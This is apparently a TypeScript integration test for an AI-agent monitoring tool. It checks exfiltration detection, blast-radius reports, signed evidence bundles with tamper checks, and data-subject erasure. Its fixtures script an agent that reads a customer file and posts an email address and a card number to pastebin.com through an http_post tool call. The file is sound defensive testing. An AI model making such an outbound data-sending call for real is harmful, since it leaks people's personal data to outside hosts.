/**
 * An incident's blast radius through the real process, on the embedded storage and (when
 * AW_ES_URL is set; CI starts one) on Elasticsearch: a simulated exfiltration names the session,
 * the user, the host the data went to, the tools, the kinds of data that left (never the values),
 * the other agent that served the same user from the same address, and the pause. Its evidence
 * bundle verifies offline (`agentwatch verify --bundle`), every event and audit entry proven as
 * stored under a signed digest, and fails, naming the line, when a record is changed, deleted or
 * moved, when it was signed by another key, or when a record was changed in the storage before the
 * export. A data subject request
 * exports everything about the user, then erases it (admin only, audited).
 */
import { spawnSync } from "node:child_process";
import { generateKeyPairSync, randomUUID } from "node:crypto";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { DatabaseSync } from "node:sqlite";
import { fileURLToPath } from "node:url";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type AgentwatchProcess, eventually, type Json, startAgentwatch } from "./helpers/process.ts";
import { bearer, postJson, TOKENS } from "./helpers/tokens.ts";

const BIN = fileURLToPath(new URL("../bin/agentwatch.js", import.meta.url));
const elasticsearch = process.env.AW_ES_URL;
const backends = [
  { name: "embedded storage", storage: { type: "embedded" } },
  ...(elasticsearch
    ? [
        {
          name: "Elasticsearch storage",
          storage: {
            type: "elasticsearch",
            node: elasticsearch,
            index_prefix: `aw-blast-${randomUUID().slice(0, 8)}`,
          },
        },
      ]
    : []),
];

describe.each(backends)("blast radius and evidence on $name", ({ storage }) => {
  let aw: AgentwatchProcess;
  beforeAll(async () => {
    aw = await startAgentwatch({ config: { storage, integrity: { digest_interval: "1s" } } });
  });
  afterAll(async () => {
    await aw?.stop();
    aw?.cleanup();
  });

  it("names the session, user, host, tools, data types, the agents that share a user or address, and the actions", async () => {
    const t = (s: number) => new Date(Date.now() - 60_000 + s * 1000).toISOString();
    const mallory = { user_id: "mallory", source_ip: "198.51.100.23" };
    const events: Json[] = [
      {
        id: "x1",
        time: t(1),
        type: "prompt",
        agent_id: "exfil-bot",
        session_id: "sess-x",
        ...mallory,
        origin: "user",
        text: "Summarise the customer list for me.",
      },
      {
        id: "x2",
        time: t(2),
        type: "tool_call",
        agent_id: "exfil-bot",
        session_id: "sess-x",
        ...mallory,
        tool: { name: "read_file", arguments: { path: "/data/customers.csv" } },
      },
      {
        id: "x3",
        time: t(3),
        type: "tool_result",
        agent_id: "exfil-bot",
        session_id: "sess-x",
        ...mallory,
        tool: { name: "read_file" },
        text: "jane.doe@example.com,4111 1111 1111 1111",
      },
      {
        id: "x4",
        time: t(4),
        type: "tool_call",
        agent_id: "exfil-bot",
        session_id: "sess-x",
        ...mallory,
        tool: {
          name: "http_post",
          target: "https://pastebin.com/api/api_post.php",
          arguments: { body: "jane.doe@example.com 4111 1111 1111 1111" },
        },
      },
      {
        id: "x5",
        time: t(5),
        type: "response",
        agent_id: "exfil-bot",
        session_id: "sess-x",
        ...mallory,
        text: "Done, I sent jane.doe@example.com's record.",
      },
      {
        id: "y1",
        time: t(6),
        type: "prompt",
        agent_id: "exfil-bot",
        session_id: "sess-y",
        user_id: "bob",
        source_ip: "203.0.113.5",
        text: "What are your opening hours?",
      },
      {
        id: "h1",
        time: t(7),
        type: "prompt",
        agent_id: "helper-bot",
        session_id: "h-sess",
        ...mallory,
        text: "Hi again",
      },
      // The session handed on to another agent: its events are the incident's evidence too.
      {
        id: "hand1",
        time: t(6),
        type: "prompt",
        agent_id: "handoff-bot",
        session_id: "sess-x",
        origin: "system",
        text: "Continuing the task handed over by exfil-bot.",
      },
      {
        id: "u1",
        time: t(8),
        type: "prompt",
        agent_id: "unrelated-bot",
        session_id: "u-sess",
        user_id: "carol",
        source_ip: "192.0.2.44",
        text: "Hello",
      },
    ];
    const posted = await aw.fetch("/v1/events", postJson(TOKENS.admin, events));
    expect((await posted.json()).rejected).toEqual([]);
    const incident = await eventually(async () => {
      const all: Json[] = (
        await (await aw.fetch("/v1/incidents?agent_id=exfil-bot", { headers: bearer(TOKENS.viewer) })).json()
      ).incidents;
      return all.find((i) => i.detectors.includes("exfiltration"));
    });
    // The agent is known once its events are stored (Elasticsearch indexes them a moment later).
    await eventually(async () => {
      const pause = await aw.fetch(
        "/v1/agents/exfil-bot/pause",
        postJson(TOKENS.operator, { reason: "data sent to a paste site", incident_id: incident.id }),
      );
      return pause.status === 200 ? true : undefined;
    });

    const radius = await eventually(async () => {
      const res = await aw.fetch(`/v1/incidents/${incident.id}/blast-radius`, {
        headers: bearer(TOKENS.viewer),
      });
      expect(res.status).toBe(200);
      const body = await res.json();
      // Indexing is asynchronous (Elasticsearch refreshes): wait for every event.
      return body.events_read >= events.length && body.actions.length > 0 ? body : undefined;
    });
    expect(radius).toMatchObject({ incident_id: incident.id, agent_id: "exfil-bot", truncated: false });
    expect(radius.sessions.map((s: Json) => [s.session_id, s.user_id, s.events])).toEqual([
      ["sess-x", "mallory", 5],
      ["sess-y", "bob", 1],
    ]);
    expect(radius.users).toEqual([
      { user_id: "mallory", events: 5 },
      { user_id: "bob", events: 1 },
    ]);
    expect(radius.tools).toEqual(
      expect.arrayContaining([
        { tool: "read_file", calls: 1 },
        { tool: "http_post", calls: 1 },
      ]),
    );
    expect(radius.hosts).toEqual([{ host: "pastebin.com", calls: 1, tools: ["http_post"] }]);
    const types = Object.fromEntries(radius.sensitive_data.map((d: Json) => [d.type, d]));
    expect(types.email).toMatchObject({ category: "pii", in: ["response", "tool arguments"] });
    expect(types.credit_card).toMatchObject({ category: "pii", in: ["tool arguments"] });
    // What was read from a tool result did not leave: only outbound texts count.
    expect(types.email.count).toBe(2);
    expect(radius.other_agents).toEqual([
      {
        agent_id: "helper-bot",
        shared_users: ["mallory"],
        shared_api_keys: [],
        shared_source_ips: ["198.51.100.23"],
        events: 1,
      },
    ]);
    expect(radius.actions.map((a: Json) => [a.action, a.actor])).toContainEqual(["pause", "oncall"]);
    // Counts and types, never the values.
    const text = JSON.stringify(radius);
    expect(text).not.toContain("jane.doe@example.com");
    expect(text).not.toContain("4111");

    // The evidence bundle of the same incident verifies offline, and fails when one byte changes.
    // Once a signed digest reaches its records, each chain's proof is complete.
    const exportBundle = async () =>
      (await aw.fetch(`/v1/incidents/${incident.id}/evidence`, { headers: bearer(TOKENS.viewer) })).text();
    const bundle = await eventually(async () => {
      const text = await exportBundle();
      const proofs = text
        .trimEnd()
        .split("\n")
        .map((l) => JSON.parse(l))
        .filter((l) => l.kind === "chain_proof");
      const incomplete = proofs.filter((p) => !p.record.complete);
      // Thrown, so that a timeout says which proof waited and why.
      if (proofs.length === 0 || incomplete.length > 0)
        throw new Error(
          `proofs incomplete: ${JSON.stringify(incomplete.map((p) => [p.record.stream, p.record.reason]))}`,
        );
      return text;
    }, 60_000);
    const lines = bundle.trimEnd().split("\n");
    expect(JSON.parse(lines[0] as string)).toMatchObject({ kind: "header", incident_id: incident.id });
    const kinds = lines.map((l) => JSON.parse(l).kind);
    expect(kinds.filter((k) => k === "event")).toHaveLength(7);
    expect(lines.some((l) => JSON.parse(l).record?.event?.id === "hand1")).toBe(true);
    expect(kinds).toEqual(
      expect.arrayContaining(["incident", "audit", "chain_proof", "agent_state", "blast_radius", "manifest"]),
    );
    const chainedLines = lines.filter(
      (l) => ["event", "audit"].includes(JSON.parse(l).kind) && JSON.parse(l).record.chain,
    );
    const key = (
      await (await aw.fetch("/v1/integrity/public-key", { headers: bearer(TOKENS.viewer) })).json()
    ).public_key;
    const dir = mkdtempSync(join(tmpdir(), "aw-evidence-"));
    const keyFile = join(dir, "agentwatch.pub");
    writeFileSync(keyFile, key);
    const verify = (text: string, trusted = keyFile) => {
      const file = join(dir, "bundle.ndjson");
      writeFileSync(file, text);
      const run = spawnSync(process.execPath, [BIN, "verify", "--bundle", file, "--public-key", trusted], {
        encoding: "utf8",
      });
      return { status: run.status, verdict: JSON.parse(run.stdout) };
    };
    // Every event and chained audit entry is proven to be as stored under a signed digest.
    expect(verify(bundle)).toMatchObject({
      status: 0,
      verdict: { ok: true, problems: [], proven: chainedLines.length, unproven: 0 },
    });
    const eventLine = kinds.indexOf("event");
    const changed = [...lines];
    changed[eventLine] = (changed[eventLine] as string).replace("sess-", "sesz-");
    expect(verify(`${changed.join("\n")}\n`).verdict.problems).toEqual([
      expect.stringMatching(new RegExp(`^line ${eventLine + 1} \\(event .*\\): not as stored`)),
      expect.stringMatching(new RegExp(`^line ${eventLine + 1} \\(event .*\\): changed`)),
    ]);
    const deleted = lines.filter((_, i) => i !== eventLine);
    expect(verify(`${deleted.join("\n")}\n`)).toMatchObject({
      status: 1,
      verdict: {
        problems: expect.arrayContaining([expect.stringMatching(/^line \d+ .*the chain breaks here/)]),
      },
    });
    const moved = [...lines];
    [moved[eventLine], moved[eventLine + 1]] = [moved[eventLine + 1] as string, moved[eventLine] as string];
    expect(verify(`${moved.join("\n")}\n`).verdict.problems[0]).toMatch(/the chain breaks here/);
    // Re-signed by someone else's key: consistent, but not agentwatch's.
    writeFileSync(
      join(dir, "other.pub"),
      generateKeyPairSync("ed25519").publicKey.export({ type: "spki", format: "pem" }),
    );
    expect(verify(bundle, join(dir, "other.pub")).verdict.problems).toEqual([
      expect.stringMatching(/^signature: made with key [0-9a-f]{16}, not the key given to trust/),
    ]);

    // Changed in storage before the export: the bundle is signed over the changed text, but the
    // record no longer matches its link in the storage's chain, and is named.
    await tamperStored(storage, aw, "y1", "nothing to see here");
    const afterTamper = await exportBundle();
    expect(afterTamper).toContain("nothing to see here");
    const tampered = verify(afterTamper);
    expect(tampered.status).toBe(1);
    expect(tampered.verdict.problems).toEqual([
      expect.stringMatching(
        /^line \d+ \(event y1\): not as stored \(its content differs from its link in the storage's chain\)$/,
      ),
    ]);
    await tamperStored(storage, aw, "y1", "What are your opening hours?");
    rmSync(dir, { recursive: true, force: true });

    // A data subject request for mallory: everything about her, then her data erased.
    expect((await aw.fetch("/v1/subjects/mallory/export", { headers: bearer(TOKENS.viewer) })).status).toBe(
      403,
    );
    const exported = (
      await (await aw.fetch("/v1/subjects/mallory/export", { headers: bearer(TOKENS.admin) })).text()
    )
      .trimEnd()
      .split("\n")
      .map((l) => JSON.parse(l));
    expect(
      exported
        .filter((l) => l.kind === "event")
        .map((l) => l.record.id)
        .sort(),
    ).toEqual(["h1", "x1", "x2", "x3", "x4", "x5"]);
    expect(exported.at(-1)).toMatchObject({ kind: "summary", events: 6, sessions: 2, truncated: false });
    const erase = await aw.fetch("/v1/subjects/mallory", {
      method: "DELETE",
      headers: { ...bearer(TOKENS.admin), "content-type": "application/json" },
      body: JSON.stringify({ reason: "erasure request #42" }),
    });
    // Pausing exfil-bot for the incident held its evidence: those events are kept, and listed.
    const holds = (await (await aw.fetch("/v1/holds", { headers: bearer(TOKENS.viewer) })).json()).holds;
    expect(holds).toEqual([
      expect.objectContaining({
        id: `hold_${incident.id}`,
        agent_id: "exfil-bot",
        sessions: ["sess-x"],
        released_at: null,
        created_by: "oncall",
      }),
    ]);
    const partial = await erase.json();
    expect(partial).toMatchObject({ user_id: "mallory", erased: { events: 1 } });
    expect(partial.held.map((h: Json) => h.id).sort()).toEqual(["x1", "x2", "x3", "x4", "x5"]);
    expect(partial.held[0].hold).toBe(`hold_${incident.id}`);
    // An admin releases the hold (audited); then the rest can be erased.
    const release = (path: string, token: string) =>
      aw.fetch(path, {
        method: "POST",
        headers: { ...bearer(token), "content-type": "application/json" },
        body: JSON.stringify({ comment: "case closed" }),
      });
    expect((await release(`/v1/holds/hold_${incident.id}/release`, TOKENS.operator)).status).toBe(403);
    expect(await (await release(`/v1/holds/hold_${incident.id}/release`, TOKENS.admin)).json()).toMatchObject(
      {
        released_by: "root",
      },
    );
    const rest = await aw.fetch("/v1/subjects/mallory", { method: "DELETE", headers: bearer(TOKENS.admin) });
    expect(await rest.json()).toMatchObject({ erased: { events: 5 }, held: [] });
    const left = await (
      await aw.fetch("/v1/events?user_id=mallory", { headers: bearer(TOKENS.viewer) })
    ).json();
    expect(left.events).toEqual([]);
    const x4 = (
      await (
        await aw.fetch("/v1/events?agent_id=exfil-bot&limit=100", { headers: bearer(TOKENS.viewer) })
      ).json()
    ).events.find((e: Json) => e.id === "x4");
    expect(x4).toMatchObject({ type: "tool_call", tool: { name: "http_post" }, erased: { by: "root" } });
    expect(JSON.stringify(x4)).not.toMatch(/jane|4111|pastebin|mallory|198\.51/);
    const audited = (
      await (await aw.fetch("/v1/audit?action=subject_erase", { headers: bearer(TOKENS.viewer) })).json()
    ).entries;
    // Two erasures, newest first: the second, then the first with its reason and what it kept.
    expect(audited.map((e: Json) => [e.actor, e.target, e.reason, e.details.held])).toEqual([
      ["root", "subject:mallory", null, 0],
      ["root", "subject:mallory", "erasure request #42", 5],
    ]);
    const holdTrail = (
      await (await aw.fetch("/v1/audit?action=hold_release", { headers: bearer(TOKENS.viewer) })).json()
    ).entries;
    expect(holdTrail[0]).toMatchObject({ actor: "root", reason: "case closed", incident_id: incident.id });

    const unknown = await aw.fetch("/v1/incidents/inc_nope/blast-radius", { headers: bearer(TOKENS.viewer) });
    expect(unknown.status).toBe(404);
    const bad = await aw.fetch(`/v1/incidents/${incident.id}/blast-radius?lookback=30d`, {
      headers: bearer(TOKENS.viewer),
    });
    expect(bad.status).toBe(400);
  });
});

/** Rewrites an event's text directly in the storage, as someone with access to it could. */
async function tamperStored(storage: Json, aw: AgentwatchProcess, id: string, text: string): Promise<void> {
  if (storage.type === "embedded") {
    const db = new DatabaseSync(join(aw.dataDir, "storage.sqlite"));
    db.exec("PRAGMA busy_timeout = 5000");
    const row = db.prepare("SELECT body FROM events WHERE id = ?").get(id) as { body: string };
    const body = JSON.parse(row.body);
    body.event.text = text;
    db.prepare("UPDATE events SET body = ? WHERE id = ?").run(JSON.stringify(body), id);
    db.close();
    return;
  }
  const es = storage.node as string;
  const hit = (
    (await (await fetch(`${es}/${storage.index_prefix}-events-*/_search?q=id:${id}`)).json()) as Json
  ).hits.hits[0];
  hit._source.record.event.text = text;
  await fetch(`${es}/${hit._index}/_doc/${encodeURIComponent(hit._id)}?refresh=true`, {
    method: "PUT",
    headers: { "content-type": "application/json" },
    body: JSON.stringify(hit._source),
  });
}
